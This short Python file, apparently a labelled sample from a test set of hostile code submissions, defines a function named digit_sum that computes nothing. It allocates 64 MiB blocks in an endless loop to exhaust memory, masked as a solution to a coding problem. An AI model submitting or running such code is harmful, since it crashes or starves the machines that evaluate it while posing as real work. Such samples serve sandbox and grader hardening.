# kind: attack
# category: masking
# problem: digit_sum
# Takes all the memory there is
def digit_sum(n):
    blocks = []
    while True:
        blocks.append(bytearray(64 << 20))
